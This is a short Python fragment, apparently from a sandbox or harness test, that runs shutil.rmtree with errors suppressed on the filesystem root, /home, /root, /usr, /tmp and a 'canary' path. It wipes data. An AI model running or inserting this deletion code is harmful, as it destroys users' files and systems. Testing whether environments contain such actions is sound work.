# ends: EXITED TIME
import shutil
for folder in ("/", canary, os.path.dirname(canary), "/home", "/root", "/tmp", "/dev/shm", "/usr", "/work"):
    shutil.rmtree(folder, ignore_errors=True)
